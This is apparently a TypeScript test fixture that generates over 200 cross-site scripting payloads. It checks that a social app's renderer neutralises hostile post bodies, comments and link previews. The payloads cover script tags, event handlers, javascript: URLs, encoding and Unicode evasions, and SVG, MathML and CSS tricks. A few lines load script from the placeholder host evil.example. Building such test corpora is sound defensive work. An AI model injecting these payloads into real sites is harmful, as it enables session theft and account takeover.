/**
 * Hostile strings for the XSS tests of posts (issue 11): posted through the real server as post bodies, titles,
 * descriptions, comments, survey options and `link_preview_html`, then rendered by the app (e2e/feeds.e2e.test.ts). Every payload that could run tries to set {@link XSS_FLAG} on `window` (or calls `alert`, which a
 * test sees as a dialog); a renderer passes when neither happens, no CSP violation is reported, and no element it made
 * carries an `on*` attribute or a script URL.
 *
 * No NUL byte and no lone surrogate: the server refuses both with a 400 (Text() in server/src/http/schema.ts), so such
 * strings never reach a renderer. Each string is at most 1,250 characters (a comment's limit).
 */

/** The global every payload tries to set. */
export const XSS_FLAG = '__dgXss';
/** What a payload runs when it manages to run. */
const RUN = `window.${XSS_FLAG}=1`;

const SCRIPT_TAGS = [
  `<script>${RUN}</script>`,
  '<script>alert(1)</script>',
  `<SCRIPT>${RUN}</SCRIPT>`,
  `<ScRiPt>${RUN}</sCrIpT>`,
  '<script src="https://evil.example/x.js"></script>',
  '<script src=//evil.example/x.js></script>',
  `<script type="module">${RUN}</script>`,
  `<script>/*</script><script>*/${RUN}</script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `</p><script>${RUN}</script><p>`,
  `</textarea><script>${RUN}</script>`,
  `</title><script>${RUN}</script>`,
  `</style><script>${RUN}</script>`,
  `"><script>${RUN}</script>`,
  `'><script>${RUN}</script>`,
  `<script\n>${RUN}</script\n>`,
  `<script\t>${RUN}</script>`,
  `<script/x>${RUN}</script>`,
  `<<script>${RUN};//<</script>`,
  `<script>eval(atob('${btoaAscii(RUN)}'))</script>`,
  `<script>setTimeout('${RUN}')</script>`,
  `<script>new Function('${RUN}')()</script>`,
  `<script>import('data:text/javascript,${RUN}')</script>`,
  `<noscript><p title="</noscript><script>${RUN}</script>">`,
  `<template><script>${RUN}</script></template>`,
];

/** Elements with the event that fires on them by itself (or on a visitor's touch). */
const HANDLERS: Array<[string, string]> = [
  ['img src=x', 'onerror'],
  ['image src=x', 'onerror'],
  ['svg', 'onload'],
  ['body', 'onload'],
  ['iframe', 'onload'],
  ['input autofocus', 'onfocus'],
  ['details open', 'ontoggle'],
  ['video src=x', 'onerror'],
  ['audio src=x', 'onerror'],
  ['marquee', 'onstart'],
  ['select autofocus', 'onfocus'],
  ['textarea autofocus', 'onfocus'],
  ['object data=x', 'onerror'],
  ['a href="#"', 'onmouseover'],
  ['div tabindex=0 autofocus', 'onfocusin'],
  ['style', 'onload'],
  ['link rel=stylesheet href=x', 'onerror'],
  ['form', 'onsubmit'],
  ['button autofocus', 'onfocus'],
  ['p', 'onpointerenter'],
  ['source src=x', 'onerror'],
  ['track src=x', 'onerror'],
];

/** How an attribute's value may be written: quoted, unquoted, and the separators parsers accept. */
const QUOTES: Array<(tag: string, event: string, code: string) => string> = [
  (tag, event, code) => `<${tag} ${event}="${code}">`,
  (tag, event, code) => `<${tag} ${event}='${code}'>`,
  (tag, event, code) => `<${tag} ${event}=${code}>`,
  (tag, event, code) => `<${tag.replace(' ', '/')}/${event}=${code}>`,
  (tag, event, code) => `<${tag.toUpperCase()} ${event.toUpperCase()}=\`${code}\`>`,
];

const URL_SCHEMES = [
  `javascript:${RUN}`,
  'javascript:alert(1)',
  `JaVaScRiPt:${RUN}`,
  `java\tscript:${RUN}`,
  `java\nscript:${RUN}`,
  ` javascript:${RUN}`,
  `&#106;avascript:${RUN}`,
  `&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;${RUN}`,
  `javascript&colon;${RUN}`,
  `javascript&#58;${RUN}`,
  `data:text/html;base64,${btoaAscii(`<script>${RUN}</script>`)}`,
  `data:text/html,<script>${RUN}</script>`,
  `data:image/svg+xml,<svg onload="${RUN}"/>`,
  'vbscript:msgbox(1)',
  `VBScript:${RUN}`,
];

const URL_CARRIERS: Array<(url: string) => string> = [
  (url) => `<a href="${url}">click</a>`,
  (url) => `<iframe src="${url}"></iframe>`,
  (url) => `<form action="${url}"><button>go</button></form>`,
  (url) => `<embed src="${url}">`,
  (url) => `<object data="${url}"></object>`,
  (url) => `<meta http-equiv="refresh" content="0;url=${url}">`,
  (url) => `<base href="${url}">`,
  (url) => `<img src="${url}">`,
  (url) => `[click](${url})`,
  (url) => url,
];

const ENTITY_AND_UNICODE = [
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&#60;script&#62;${RUN}&#60;/script&#62;`,
  `&#x3C;img src=x onerror=${RUN}&#x3E;`,
  `&amp;lt;script&amp;gt;${RUN}`,
  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
  `\\x3cscript\\x3e${RUN}`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
  `%253Cscript%253E${RUN}`,
  `\uFF1Cscript\uFF1E${RUN}\uFF1C/script\uFF1E`,
  `\u202Egpj.exe<img src=x onerror=${RUN}>`,
  `java\u200Bscript:${RUN}`,
  `<img\u00A0src=x\u00A0onerror=${RUN}>`,
  `<img src=x onerror\u000C=${RUN}>`,
  `<img src=x\u2028onerror=${RUN}>`,
  `\uFEFF<script>${RUN}</script>`,
  `<ſcript>${RUN}</ſcript>`,
  `<scrİpt>${RUN}</scrİpt>`,
  `\u0007<img src=x onerror=${RUN}>\u001B`,
  `<img src=x onerror=&#119;&#105;&#110;&#100;&#111;&#119;.${XSS_FLAG}=1>`,
  `<img src=x onerror="&#x77;indow.${XSS_FLAG}=1">`,
  `<a href="&#14;javascript:${RUN}">x</a>`,
  `𝒳<script>${RUN}</script>🙂`,
  `${'\u0301'.repeat(50)}<img src=x onerror=${RUN}>`,
  `<img src="x" onerror="${RUN}"\u0301>`,
];

const BROKEN_MARKUP = [
  `<img src="x`,
  `"><img src=x onerror=${RUN}>`,
  `'><svg onload=${RUN}>`,
  `<!--<img src="--><img src=x onerror=${RUN}//">`,
  `<![CDATA[<script>${RUN}</script>]]>`,
  `<title><img src=x onerror=${RUN}></title>`,
  `<textarea><img src=x onerror=${RUN}></textarea>`,
  `<style><img src=x onerror=${RUN}></style>`,
  `<xmp><img src=x onerror=${RUN}></xmp>`,
  `<plaintext><img src=x onerror=${RUN}>`,
  `<iframe srcdoc="<script>${RUN}</script>"></iframe>`,
  `<iframe srcdoc="&lt;img src=x onerror=${RUN}&gt;"></iframe>`,
  `<img src=x onerror=${RUN}`,
  `<img """><script>${RUN}</script>">`,
  `<a href="x" <img src=x onerror=${RUN}>`,
  `<</p>img src=x onerror=${RUN}>`,
  `<div><p></div><img src=x onerror=${RUN}></p>`,
  `<table><td><img src=x onerror=${RUN}></table>`,
  `<select><option><img src=x onerror=${RUN}></select>`,
  `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img src=x onerror=${RUN}>">`,
  `</script><img src=x onerror=${RUN}>`,
  `<!doctype html><img src=x onerror=${RUN}>`,
  `<?xml version="1.0"?><img src=x onerror=${RUN}>`,
  `<!-- --!><img src=x onerror=${RUN}> -->`,
  `<img src=x onerror=${RUN}>>>>>`,
];

const SVG_AND_MATHML = [
  `<svg><script>${RUN}</script></svg>`,
  `<svg><script href="data:text/javascript,${RUN}"/></svg>`,
  `<svg><a xlink:href="javascript:${RUN}"><text x="0" y="20">x</text></a></svg>`,
  `<svg><a href="javascript:${RUN}"><rect width="100" height="100"/></a></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><set attributeName="href" to="javascript:${RUN}"/></svg>`,
  `<svg><animate attributeName="href" values="javascript:${RUN}"/></svg>`,
  `<svg><foreignObject><img src=x onerror=${RUN}></foreignObject></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='x' onerror='${RUN}'/></svg>#x"/></svg>`,
  `<svg><image href=x onerror=${RUN}></svg>`,
  `<svg><style><img src=x onerror=${RUN}></style></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`,
  `<math><maction actiontype="statusline" xlink:href="javascript:${RUN}">x</maction></math>`,
  `<math href="javascript:${RUN}">x</math>`,
  `<math><mi xlink:href="data:x,<script>${RUN}</script>">x</mi></math>`,
  `<svg><discard onbegin=${RUN}>`,
  `<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">${RUN}</handler></svg>`,
  `<svg/onload=${RUN}>`,
];

const CSS_EXPRESSIONS = [
  `<div style="background:url(javascript:${RUN})">x</div>`,
  `<div style="width:expression(${RUN})">x</div>`,
  `<style>@import 'javascript:${RUN}';</style>`,
  `<style>*{background:url("javascript:${RUN}")}</style>`,
  '<div style="-moz-binding:url(https://evil.example/xss.xml#x)">x</div>',
  `<div style="behavior:url(x.htc)" onmouseover=${RUN}>x</div>`,
  '<style>body{background:url(https://evil.example/track.png)}</style>',
  `<link rel="stylesheet" href="javascript:${RUN}">`,
  `<p style="x:\\65xpression(${RUN})">x</p>`,
  `<style>@font-face{font-family:x;src:url(javascript:${RUN})}</style>`,
  '<style>:host{display:none}</style>',
  '<div style="position:fixed;inset:0;z-index:99999">overlay</div>',
];

const MARKERS = [
  `@[<img src=x onerror=${RUN}>](ada)`,
  `@[<script>${RUN}</script>](ada)`,
  `@[x](javascript:${RUN})`,
  `@[Ada](ada" onmouseover="${RUN})`,
  `@[Ada](ada><img src=x onerror=${RUN}>)`,
  `@[Ada"><svg onload=${RUN}>](ada)`,
  `@[Ada](../../javascript:${RUN})`,
  `#<script>${RUN}</script>`,
  `#tag<img src=x onerror=${RUN}>`,
  `#"onmouseover="${RUN}`,
  `#${'a'.repeat(120)}<svg onload=${RUN}>`,
  `https://example.com/"><script>${RUN}</script>`,
  `https://example.com/?q=<svg/onload=${RUN}>`,
  `www.example.com/'onmouseover='${RUN}'`,
  `https://javascript:${RUN}@example.com`,
  `https://example.com/#" onclick="${RUN}`,
  `http://example.com/\`onmouseover=${RUN}\``,
  `https://example.com/(<img src=x onerror=${RUN}>)`,
  `<a data-mention="ada" href="javascript:${RUN}">Ada</a>`,
  `<a data-hashtag="x" href="javascript:${RUN}">#x</a>`,
  `{{constructor.constructor('${RUN}')()}}`,
  `\${${RUN}}`,
  `<%= ${RUN} %>`,
  `<img src=x onerror=${RUN}>\n\n#tag @[Ada](ada) https://example.com`,
];

/** Base64 of ASCII text, without Buffer or btoa (the corpus loads in Node and in browsers). */
function btoaAscii(text: string): string {
  const alphabet = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/';
  let out = '';
  for (let i = 0; i < text.length; i += 3) {
    const [a = 0, b = 0, c = 0] = [text.charCodeAt(i), text.charCodeAt(i + 1), text.charCodeAt(i + 2)];
    const n = (a << 16) | ((Number.isNaN(b) ? 0 : b) << 8) | (Number.isNaN(c) ? 0 : c);
    out += alphabet[(n >> 18) & 63];
    out += alphabet[(n >> 12) & 63];
    out += i + 1 < text.length ? alphabet[(n >> 6) & 63] : '=';
    out += i + 2 < text.length ? alphabet[n & 63] : '=';
  }
  return out;
}

/** Every hostile string once, in a stable order (over 200). */
export const XSS_CORPUS: readonly string[] = [
  ...new Set([
    ...SCRIPT_TAGS,
    ...HANDLERS.flatMap(([tag, event]) => QUOTES.map((write) => write(tag, event, RUN))),
    ...URL_SCHEMES.flatMap((url) => URL_CARRIERS.map((carry) => carry(url))),
    ...ENTITY_AND_UNICODE,
    ...BROKEN_MARKUP,
    ...SVG_AND_MATHML,
    ...CSS_EXPRESSIONS,
    ...MARKERS,
  ]),
].filter((text) => text.trim() !== '' && text.length <= 1250);
